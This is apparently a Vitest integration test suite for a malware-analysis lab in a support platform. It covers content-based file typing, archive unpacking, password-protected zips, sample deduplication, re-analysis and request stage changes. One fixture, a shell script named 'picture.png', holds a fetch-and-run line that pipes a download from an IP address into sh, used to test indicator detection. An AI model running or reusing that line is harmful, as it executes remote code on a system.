import { createHash } from 'node:crypto';
import { gunzipSync, gzipSync } from 'node:zlib';
import { ANALYSIS_STEPS } from '@companyaccount/contract/lab';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PIPELINE_VERSION } from '#features/lab/pipeline.ts';
import { startTestApp, type TestApp } from '../harness/test-app.ts';
import { elfFile, lockedZip, peFile, zip } from './hostile-files.ts';
import { uploadCalls } from '../attachments/upload-calls.ts';
import { objectsOf, submit } from './lab-calls.ts';
import { type QuietScanner, startQuietScanner } from './quiet-scanner.ts';

const ANNA = 'anna@acme.example';
const STEPS = ANALYSIS_STEPS.length;
const CLARA = 'clara@globex.example';
let test: TestApp;
let scanner: QuietScanner;
beforeAll(async () => {
  scanner = await startQuietScanner();
  test = await startTestApp({ config: { clamd: scanner.clamd } });
});
afterAll(async () => {
  await test.close();
  scanner.close();
});

const hashOf = (bytes: Buffer, algorithm = 'sha256') => createHash(algorithm).update(bytes).digest('hex');
const sampleOf = async (bytes: Buffer) =>
  (await test.as('analyst@vendor.example')).getSample({ params: { sha256: hashOf(bytes) } });
const findingsOf = async (bytes: Buffer) =>
  ((await sampleOf(bytes)).analysis?.steps ?? []).flatMap((one) => one.findings);
const requestOf = async (id: string) => (await test.as(ANNA)).getRequest({ params: { id } });

describe('a file that is sent to the lab', () => {
  it('is a sample at once, whose findings the lab reads, and whose outcome its sender', async () => {
    const program = peFile();
    const id = await submit(test, ANNA, { 'setup.exe': program });
    expect(await objectsOf(test, ANNA, id)).toMatchObject([
      { kind: 'file', name: 'setup.exe', outcome: null, progress: null, hasSample: false },
    ]);
    await test.runJobs();
    expect(await objectsOf(test, ANNA, id)).toMatchObject([
      { sha256: hashOf(program), outcome: 'nothing_found', progress: { done: STEPS, total: STEPS }, hasSample: false },
    ]);
    expect(await sampleOf(program)).toMatchObject({
      sha256: hashOf(program),
      sha1: hashOf(program, 'sha1'),
      md5: hashOf(program, 'md5'),
      size: program.length,
      mediaType: 'application/x-msdownload',
      companies: 1,
      analysis: { state: 'done', pipelineVersion: PIPELINE_VERSION },
    });
    expect(await findingsOf(program)).toEqual(
      expect.arrayContaining([
        { kind: 'tlsh', name: expect.stringMatching(/^T1[0-9A-F]{70}$/u), count: null, value: null },
        { kind: 'pe', name: 'x86-64, 64 bit, program', count: 1, value: null },
        { kind: 'section', name: '.text', count: 576, value: expect.any(Number) },
        { kind: 'import', name: 'KERNEL32.dll', count: null, value: null },
      ]),
    );
  });

  it('is told by its content, not by its name', async () => {
    const files = {
      'letter.txt': elfFile(),
      'picture.png': Buffer.from('#!/bin/sh\ncurl http://203.0.113.7/a | sh\n'),
      'notes.doc': Buffer.from('<!DOCTYPE html><html><body>mail me: someone@example.org</body></html>'),
    };
    await submit(test, ANNA, files);
    await test.runJobs();
    const types = [];
    for (const bytes of Object.values(files)) types.push((await sampleOf(bytes)).mediaType);
    expect(types).toEqual(['application/x-elf', 'text/x-shellscript', 'text/html']);
    expect(await findingsOf(files['picture.png'])).toEqual(
      expect.arrayContaining([
        { kind: 'indicator', name: 'url', count: 1, value: null },
        { kind: 'indicator', name: 'ip_address', count: 1, value: null },
      ]),
    );
  });

  it('is taken apart, and what lies within is a sample of its own', async () => {
    const [core, script] = [Buffer.from('the core of it all'), Buffer.from('@echo off\r\nrem nothing\r\n')];
    const inner = zip({ 'core.txt': core });
    const outer = gzipSync(zip({ 'deep/inner.zip': inner, 'run.bat': script }));
    const id = await submit(test, ANNA, { 'all.gz': outer });
    await test.runJobs();
    const [object] = await objectsOf(test, ANNA, id);
    expect(object).toMatchObject({ outcome: 'nothing_found', progress: { done: 5 * STEPS, total: 5 * STEPS } });
    const middle = await sampleOf(gunzipSync(outer));
    expect(middle.contains.map(({ path, sha256 }) => [path, sha256])).toEqual([
      ['deep/inner.zip', hashOf(inner)],
      ['run.bat', hashOf(script)],
    ]);
    expect(await sampleOf(core)).toMatchObject({
      companies: 1,
      contains: [],
      containedIn: [{ path: 'core.txt', sha256: hashOf(inner) }],
    });
    const analyst = await test.as('analyst@vendor.example');
    const { data } = await analyst.listSampleRequests({ params: { sha256: hashOf(core) } });
    expect(data.map((request) => request.id)).toEqual([id]);
  });

  it.each(['aes', 'zipcrypto'] as const)('is opened with a usual password, or the one given (%s)', async (cipher) => {
    const usual = Buffer.from(`usual ${cipher}`);
    const agreed = Buffer.from(`agreed ${cipher}`);
    const files = {
      'usual.zip': await lockedZip({ 'a.txt': usual }, 'infected', cipher),
      'agreed.zip': await lockedZip({ 'b.txt': agreed }, 'Säure & 酸', cipher),
    };
    const first = await submit(test, ANNA, files);
    await test.runJobs();
    expect((await objectsOf(test, ANNA, first)).map(({ outcome }) => outcome)).toEqual(['nothing_found', 'encrypted']);
    const second = await submit(test, ANNA, files, { archivePassword: 'Säure & 酸' });
    await test.runJobs();
    expect((await objectsOf(test, ANNA, second)).map(({ outcome }) => outcome)).toEqual([
      'nothing_found',
      'nothing_found',
    ]);
    expect(await findingsOf(files['agreed.zip'])).toContainEqual(
      expect.objectContaining({ kind: 'password', name: 'given' }),
    );
    expect((await sampleOf(agreed)).containedIn).toHaveLength(1);
  });

  it('is kept and analysed once, however many send it', async () => {
    const bytes = Buffer.from('sent by two companies');
    const first = await submit(test, ANNA, { 'mine.bin': bytes });
    await test.runJobs();
    const analyses = () => test.platform.db.selectFrom('app.analyses').select('id').execute();
    const before = (await analyses()).length;
    const second = await submit(test, CLARA, { 'yours.bin': bytes });
    await test.runJobs();
    expect((await analyses()).length).toBe(before);
    const [mine] = await objectsOf(test, ANNA, first);
    const [yours] = await objectsOf(test, CLARA, second);
    expect(yours).toMatchObject({ name: 'yours.bin', sha256: mine?.sha256, outcome: 'nothing_found' });
    expect(await sampleOf(bytes)).toMatchObject({ companies: 2 });
  });

  it('is analysed again when an analyst asks, once at a time, and what was told stands', async () => {
    const bytes = Buffer.from('analysed twice');
    const id = await submit(test, ANNA, { 'twice.bin': bytes });
    await test.runJobs();
    const [told] = await objectsOf(test, ANNA, id);
    const analyst = await test.as('analyst@vendor.example');
    const params = { sha256: hashOf(bytes) };
    const begun = await analyst.analyseSample({ params });
    expect(begun.analysis).toMatchObject({ state: 'running', finishedAt: null });
    await analyst.analyseSample({ params });
    await test.runJobs();
    const analyses = await test.platform.db
      .selectFrom('app.analyses as a')
      .innerJoin('app.samples as s', 's.id', 'a.sample_id')
      .select('a.state')
      .where('s.sha256', '=', Buffer.from(params.sha256, 'hex'))
      .execute();
    expect(analyses).toEqual([{ state: 'done' }, { state: 'done' }]);
    expect((await objectsOf(test, ANNA, id))[0]).toEqual(told);
  });

  it('that hangs on a later message is submitted too; what staff attach is not', async () => {
    const id = await submit(test, ANNA, { 'first.bin': Buffer.from('first') });
    const second = await submit(test, ANNA, {});
    for (const email of [ANNA, 'analyst@vendor.example'] as const) {
      const cookie = await test.signIn(email);
      const upload = await uploadCalls(test, cookie).whole(Buffer.from(`by ${email}`), 'later.bin');
      await test.client(cookie).createMessage({ params: { id }, body: { text: 'One more.', uploads: [upload] } });
    }
    await test.runJobs();
    expect((await objectsOf(test, ANNA, id)).map(({ name }) => name)).toEqual(['first.bin', 'later.bin']);
    expect(await objectsOf(test, ANNA, second)).toEqual([]);
  });

  it('whose content is lost is unreadable, and its request goes on', async () => {
    const id = await submit(test, ANNA, { 'lost.bin': Buffer.from('soon lost') });
    const { blob_id: blob } = await test.platform.db
      .selectFrom('app.attachments')
      .select('blob_id')
      .where('request_id', '=', id)
      .executeTakeFirstOrThrow();
    await test.platform.blobs.remove(blob);
    await test.runJobs();
    expect(await objectsOf(test, ANNA, id)).toMatchObject([{ outcome: 'unreadable' }]);
    expect(await requestOf(id)).toMatchObject({ labStage: 'automatic_result' });
  });
});

describe('the automatic answer', () => {
  it('moves the request on by itself, keeps the promise, and an analyst takes it from there', async () => {
    const id = await submit(test, ANNA, { 'a.bin': Buffer.from('moves on'), 'b.bin': Buffer.from('moves on too') });
    const before = await requestOf(id);
    expect(before).toMatchObject({ status: 'new', labStage: 'received' });
    await test.runJobs();
    const after = await requestOf(id);
    expect(after).toMatchObject({ status: 'open', labStage: 'automatic_result', promiseAt: before.promiseAt });
    const told = await test.platform.db
      .selectFrom('app.live_events')
      .select('type')
      .where('request_id', '=', id)
      .where('type', '=', 'objects_changed')
      .execute();
    // At least once for each file, however many of its steps are written down together.
    expect(told.length).toBeGreaterThanOrEqual(2);

    const analyst = await test.as('analyst@vendor.example');
    const { id: analystId } = await analyst.getMe();
    await analyst.assignRequest({ params: { id }, body: { personId: analystId } });
    expect(await requestOf(id)).toMatchObject({ status: 'open', labStage: 'with_analyst' });
    const { data } = await (await test.as(ANNA)).listTimeline({ params: { id } });
    expect(data.map(({ type, to }) => [type, to])).toEqual([
      ['created', null],
      ['stage_changed', 'automatic_result'],
      ['stage_changed', 'with_analyst'],
    ]);
  });

  it('leaves alone what somebody has answered meanwhile', async () => {
    const id = await submit(test, ANNA, { 'quick.bin': Buffer.from('answered before') });
    const analyst = await test.as('analyst@vendor.example');
    await analyst.createMessage({
      params: { id },
      body: { text: 'Where was it?', thenStatus: 'waiting_for_customer' },
    });
    await test.runJobs();
    expect(await requestOf(id)).toMatchObject({ status: 'waiting_for_customer', labStage: 'need_information' });
    expect(await objectsOf(test, ANNA, id)).toMatchObject([{ outcome: 'nothing_found' }]);
  });

  it('tells of a hash only whether its own company sent the file, and fetches no address', async () => {
    const bytes = Buffer.from('asked for by its hash');
    await submit(test, ANNA, { 'known.bin': bytes });
    await test.runJobs();
    const more = {
      hashes: [hashOf(bytes).toUpperCase(), hashOf(Buffer.from('never seen'))],
      urls: ['https://bad.example/x'],
    };
    const own = await submit(test, ANNA, {}, more);
    const foreign = await submit(test, CLARA, {}, more);
    await test.runJobs();
    const outcomes = async (email: typeof ANNA | typeof CLARA, id: string) =>
      (await objectsOf(test, email, id)).map(({ kind, outcome }) => [kind, outcome]);
    expect(await outcomes(ANNA, own)).toEqual([
      ['hash', 'already_sent'],
      ['hash', 'send_file'],
      ['url', 'for_analyst'],
    ]);
    expect(await outcomes(CLARA, foreign)).toEqual([
      ['hash', 'send_file'],
      ['hash', 'send_file'],
      ['url', 'for_analyst'],
    ]);
    expect(await requestOf(own)).toMatchObject({ labStage: 'automatic_result' });
  });

  it('is not for Technical Support', async () => {
    const anna = await test.as(ANNA);
    const body = { desk: 'support', kind: 'malfunction', subject: 'It stops', text: 'It stops.' } as const;
    for (const [field, value] of Object.entries({ hashes: ['0'.repeat(64)], urls: ['a://b'], archivePassword: 'x' })) {
      await expect(anna.createRequest({ body: { ...body, [field]: value } })).rejects.toMatchObject({
        code: 'validation_failed',
        fields: [{ pointer: `/${field}`, code: 'unknown_field' }],
      });
    }
  });
});
